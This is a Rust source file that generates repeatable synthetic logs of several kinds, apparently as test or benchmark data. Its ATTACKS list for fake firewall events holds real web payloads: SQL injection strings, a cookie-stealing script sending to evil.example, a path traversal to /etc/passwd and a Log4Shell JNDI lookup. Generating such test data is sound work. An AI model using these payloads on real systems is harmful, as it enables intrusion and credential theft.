//! Logs of several kinds, made up: the same each time.

use std::fmt::Write;

/// Appends a line.
type Line = fn(&mut String, &mut Random);

/// So many bytes of each kind.
pub(crate) fn all(size: usize) -> Vec<(String, Vec<u8>)> {
    let kinds: [(&str, Line); 6] = [
        ("nginx access logs as JSON", nginx),
        ("web application firewall, with attacks", firewall),
        ("application logs with trace ids", application),
        ("Japanese messages", japanese),
        ("stack traces", stack_trace),
        ("plain access logs", plain),
    ];
    let mut texts = Vec::new();
    for (name, line) in kinds {
        let (mut text, mut random) = (String::new(), Random(0x9e37_79b9_7f4a_7c15));
        while text.len() < size {
            line(&mut text, &mut random);
        }
        texts.push((name.to_owned(), text.into_bytes()));
    }
    // All of them in turn, as one file that everything goes to has them.
    let (mut mixed, mut random) = (String::new(), Random(7));
    while mixed.len() < size {
        (random.pick(&kinds).1)(&mut mixed, &mut random);
    }
    texts.push(("all of these mixed".to_owned(), mixed.into_bytes()));
    texts
}

/// xorshift64*
pub(crate) struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, end: u64) -> u64 {
        (self.next() >> 11) % end
    }

    /// Small numbers far more often than large ones, as hosts, paths and users come.
    fn skewed(&mut self, end: u64) -> u64 {
        let bound = 1 + self.below(end);
        self.below(bound)
    }

    fn pick<'a, T>(&mut self, from: &'a [T]) -> &'a T {
        let index = self.skewed(from.len() as u64);
        &from[index as usize]
    }

    fn address(&mut self) -> String {
        let host = self.skewed(50_000);
        format!("{}.{}.{}.{}", 11 + host % 180, host * 7 % 256, host / 256, host * 13 % 256)
    }
}

const AGENTS: [&str; 6] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:147.0) Gecko/20100101 Firefox/147.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.14.1",
    "python-requests/2.32.4",
];
const PATHS: [&str; 8] = [
    "/",
    "/products/search",
    "/api/v2/orders",
    "/static/app.js",
    "/login",
    "/cart",
    "/images/banner.webp",
    "/api/v2/users/me",
];
const ATTACKS: [&str; 5] = [
    "' OR 1=1 -- ",
    "<script>document.location='//evil.example/?c='+document.cookie</script>",
    "../../../../etc/passwd",
    "${jndi:ldap://203.0.113.66:1389/a}",
    "1; WAITFOR DELAY '0:0:5'--",
];

fn time(random: &mut Random) -> String {
    let second = random.below(3600);
    format!("2026-02-17T10:{:02}:{:02}.{:03}+09:00", second / 60, second % 60, random.below(1000))
}

fn nginx(out: &mut String, random: &mut Random) {
    let customer = random.skewed(20);
    writeln!(
        out,
        "{{\"log_type\":\"nginx\",\"hostname\":\"engine-{}.example.com\",\"customer_name\":\"customer-{customer}\",\
         \"fqdn\":\"www.customer-{customer}.example.com\",\"year\":\"2026\",\"month\":\"02\",\"day\":\"17\",\"hour\":\"10\",\
         \"time\":\"{}\",\"remote_addr\":\"{}\",\"remote_user\":\"\",\"request\":\"GET {}?page={}&id={:x} HTTP/1.1\",\
         \"status\":{},\"body_bytes_sent\":{},\"http_user_agent\":\"{}\",\"request_time\":{}.{:03},\"request_id\":\"{:016x}{:016x}\"}}",
        random.below(4), time(random), random.address(), random.pick(&PATHS), random.skewed(40), random.skewed(100_000),
        random.pick(&[200, 200, 304, 404, 302, 500]), random.skewed(90_000), random.pick(&AGENTS),
        random.skewed(3), random.below(1000), random.next(), random.next(),
    )
    .unwrap();
}

fn firewall(out: &mut String, random: &mut Random) {
    let customer = random.skewed(20);
    writeln!(
        out,
        "{{\"eventTime\":\"{}\",\"eventName\":\"Web Request\",\"eventSeverity\":\"{}\",\"assetName\":\"customer-{customer}\",\
         \"practiceType\":\"Threat Prevention\",\"httpHostName\":\"www.customer-{customer}.example.com\",\
         \"httpUriPath\":\"{}\",\"httpUriQuery\":\"q={}&s={:x}\",\"sourceIP\":\"{}\",\"httpSourceId\":\"{}\",\
         \"httpMethod\":\"POST\",\"waapIncidentType\":\"{}\",\"matchedSample\":\"{}\",\"matchedParameter\":\"p{}\",\
         \"securityAction\":\"{}\",\"eventReferenceId\":\"{:08x}-{:04x}-4{:03x}-{:016x}\",\"reservedNgenA\":\"{}\",\"eventConfidence\":\"{}\"}}",
        time(random), random.pick(&["Info", "Medium", "High", "Critical"]), random.pick(&PATHS), random.pick(&ATTACKS),
        random.next(), random.address(), random.address(), random.pick(&["SQL Injection", "Cross Site Scripting", "Path Traversal"]),
        random.pick(&ATTACKS), random.skewed(30), random.pick(&["Prevent", "Detect"]), random.below(1 << 32),
        random.below(1 << 16), random.below(1 << 12), random.next(), random.below(100_000), random.pick(&["High", "Very High"]),
    )
    .unwrap();
}

fn application(out: &mut String, random: &mut Random) {
    writeln!(
        out,
        "{{\"timestamp\":\"{}\",\"level\":\"{}\",\"service\":\"{}\",\"trace_id\":\"{:016x}{:016x}\",\"span_id\":\"{:016x}\",\
         \"message\":\"{} in {} ms\",\"user_id\":{},\"attempt\":{}}}",
        time(random), random.pick(&["INFO", "DEBUG", "WARN", "ERROR"]), random.pick(&["orders", "billing", "gateway"]),
        random.next(), random.next(), random.next(),
        random.pick(&["request finished", "query finished", "cache missed", "payment accepted", "retrying upstream call"]),
        random.skewed(2000), random.skewed(1_000_000), random.skewed(4),
    )
    .unwrap();
}

fn japanese(out: &mut String, random: &mut Random) {
    let messages = [
        "検索結果を返しました",
        "ログインに失敗しました",
        "注文を受け付けました",
        "在庫が不足しています",
        "接続が切断されました",
    ];
    writeln!(
        out,
        "{{\"time\":\"{}\",\"level\":\"{}\",\"message\":\"{}（利用者番号 {}、処理時間 {} ミリ秒）\",\"host\":\"web-{}\"}}",
        time(random), random.pick(&["INFO", "WARN", "ERROR"]), random.pick(&messages), random.skewed(1_000_000),
        random.skewed(5000), random.skewed(12),
    )
    .unwrap();
}

fn stack_trace(out: &mut String, random: &mut Random) {
    let time = time(random);
    write!(
        out,
        "{{\"time\":\"{time}\",\"level\":\"ERROR\",\"message\":\"java.lang.IllegalStateException: order {} is {}",
        random.below(1_000_000),
        random.pick(&["closed", "locked", "unknown"])
    )
    .unwrap();
    for _ in 0..5 + random.skewed(20) {
        let class = random.pick(&["OrderService", "HttpHandler", "ConnectionPool", "Retry", "Dispatcher"]);
        write!(out, "\\n\\tat com.example.shop.{class}.handle({class}.java:{})", random.skewed(400)).unwrap();
    }
    out.push_str("\"}\n");
}

fn plain(out: &mut String, random: &mut Random) {
    writeln!(
        out,
        "{} - - [17/Feb/2026:10:{:02}:{:02} +0900] \"GET {}?id={} HTTP/1.1\" {} {} \"-\" \"{}\"",
        random.address(),
        random.below(60),
        random.below(60),
        random.pick(&PATHS),
        random.skewed(100_000),
        random.pick(&[200, 304, 404]),
        random.skewed(60_000),
        random.pick(&AGENTS),
    )
    .unwrap();
}
